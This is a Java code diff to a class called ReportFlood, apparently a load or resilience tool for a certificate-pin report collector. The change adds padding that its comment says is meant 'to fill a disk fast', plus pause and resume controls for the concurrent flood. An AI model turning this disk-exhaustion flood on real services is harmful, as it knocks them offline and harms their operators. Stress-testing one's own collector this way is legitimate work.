@@ -24,6 +24,8 @@ public final class ReportFlood implements AutoCloseable {
     private final AtomicInteger failed = new AtomicInteger();
     private final long deadline;
     private volatile boolean running = true;
+    private volatile boolean paused;
+    private volatile String padding = "";
 
     public ReportFlood(URI target, String suffix, int clients, Duration maxDuration) {
         this.target = target;
@@ -37,6 +39,19 @@ public final class ReportFlood implements AutoCloseable {
         }
     }
 
+    /**
+     * Makes every report about {@code bytes} larger (a long served chain of unreadable entries, each within
+     * the collector's limit per entry): to fill a disk fast.
+     */
+    public ReportFlood withPadding(int bytes) {
+        List<String> entries = new ArrayList<>();
+        for (int left = bytes; left > 0; left -= 30_000) {
+            entries.add("\"" + "A".repeat(Math.min(left, 30_000)) + "\"");
+        }
+        padding = String.join(",", entries);
+        return this;
+    }
+
     public ReportFlood start() {
         threads.forEach(Thread::start);
         return this;
@@ -46,9 +61,16 @@ public final class ReportFlood implements AutoCloseable {
         HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                 .connectTimeout(Duration.ofSeconds(2)).build();
         for (int seq = 0; running && System.nanoTime() < deadline; seq++) {
+            while (paused && running) {
+                try {
+                    Thread.sleep(10);
+                } catch (InterruptedException stop) {
+                    return;
+                }
+            }
             String host = "c" + client + "-" + seq + "." + suffix;
             String body = "{\"hostname\":\"" + host + "\",\"port\":443,\"known-pins\":[],"
-                    + "\"served-certificate-chain\":[],\"validated-certificate-chain\":[]}";
+                    + "\"served-certificate-chain\":[" + padding + "],\"validated-certificate-chain\":[]}";
             try {
                 HttpResponse<Void> response = http.send(HttpRequest.newBuilder(target).timeout(Duration.ofSeconds(15))
                         .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body)).build(),
@@ -85,6 +107,15 @@ public final class ReportFlood implements AutoCloseable {
 
     public int failed() {
         return failed.get();
+    }
+
+    /** Stops sending until {@link #resume()} (the report being sent is still sent). */
+    public void pause() {
+        paused = true;
+    }
+
+    public void resume() {
+        paused = false;
     }
 
     /** Stops the clients and waits for them. */
